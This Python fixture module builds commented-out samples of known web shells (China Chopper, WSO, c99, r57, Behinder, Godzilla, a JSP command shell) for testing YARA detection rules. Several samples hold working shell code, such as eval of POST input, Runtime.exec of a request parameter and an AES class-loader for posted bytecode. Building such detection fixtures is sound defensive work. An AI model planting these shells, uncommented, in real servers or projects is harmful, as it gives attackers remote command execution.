"""Inert samples and near-misses for signatures/rules/webshells.yar."""

from __future__ import annotations

from sample_blocks import INERT_NOTE, Builders, text


def china_chopper() -> dict[str, bytes]:
    # Each one-liner sits inside a server-side comment, so the page would run nothing.
    return {
        "chopper-php": text(f"<?php /* {INERT_NOTE}: @eval($_POST['pw']); */ ?>"),
        "chopper-aspx": text(
            f"<%-- {INERT_NOTE}",
            '<%@ Page Language="Jscript"%><%eval(Request.Item["pw"],"unsafe");%>',
            "--%>",
        ),
    }


def wso() -> dict[str, bytes]:
    return {
        "wso-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            "define('WSO_VERSION', '2.5');",
            "$default_action = 'FilesMan';",
            "function wsoLogin() {}",
            "function wsoHeader() {}",
            "function wsoFooter() {}",
            "function wsoEx($in) {}",
            "function wsoPerms($p) {}",
            "function wsoViewSize($s) {}",
            "function actionSecInfo() {}",
            "function actionFilesMan() {}",
            "function actionConsole() {}",
            "function actionBruteforce() {}",
            "function actionSelfRemove() {}",
            "*/",
        )
    }


def c99() -> dict[str, bytes]:
    return {
        "c99-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            "!C99Shell v. 1.0",
            '$c99sh_surl = "";',
            "function c99_buff_prepare() {}",
            "function c99_sess_put($data) {}",
            "function c99ftpbrutecheck($host, $port, $timeout, $login, $pass) {}",
            "function c99fsearch($d) {}",
            "function c99shexit() {}",
            "function c99sh_getupdate() {}",
            "*/",
        )
    }


def r57() -> dict[str, bytes]:
    return {
        "r57-php": text(
            f"<?php exit; /* {INERT_NOTE}",
            "r57shell - http://rst.void.ru",
            "$lang=array('ru_text1' => '', 'eng_text1' => '');",
            '$back_connect = "";',
            '$datapipe_c = "";',
            '$bind_port_c = "";',
            "*/",
        )
    }


def behinder() -> dict[str, bytes]:
    return {
        "behinder-jsp": text(
            f"<%-- {INERT_NOTE}",
            '<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%>',
            "<%!class U extends ClassLoader{U(ClassLoader c){super(c);}",
            "public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>",
            '<%if (request.getMethod().equals("POST")){String k="0123456789abcdef";',
            'session.putValue("u",k);Cipher c=Cipher.getInstance("AES");',
            'c.init(2,new SecretKeySpec(k.getBytes(),"AES"));',
            "String body=request.getReader().readLine();",
            "new U(this.getClass().getClassLoader()).g(c.doFinal(body.getBytes()))"
            ".newInstance().equals(pageContext);}%>",
            "--%>",
        )
    }


def godzilla() -> dict[str, bytes]:
    return {
        "godzilla-jsp": text(
            f"<%-- {INERT_NOTE}",
            '<%! String xc="3c6e0b8a9c15224a"; String pass="pass"; String md5=md5(pass+xc);',
            "class X extends ClassLoader{public X(ClassLoader z){super(z);}}",
            "public byte[] x(byte[] s,boolean m){ return s; }%>",
            '<% Object p = session.getAttribute("payload"); %>',
            "--%>",
        )
    }


def jsp_cmd() -> dict[str, bytes]:
    return {
        "cmd-jsp": text(
            f"<%-- {INERT_NOTE}",
            '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));',
            "java.io.InputStream in = p.getInputStream();",
            'out.println(new java.util.Scanner(in).useDelimiter("\\\\A").next()); %>',
            "--%>",
        )
    }


SAMPLES: Builders = {
    "ChinaChopper_OneLiner": china_chopper,
    "WSO_WebShell": wso,
    "C99_WebShell": c99,
    "R57_WebShell": r57,
    "Behinder_JSP_WebShell": behinder,
    "Godzilla_JSP_WebShell": godzilla,
    "JSP_Cmd_WebShell": jsp_cmd,
}

NEARMISS: Builders = {}
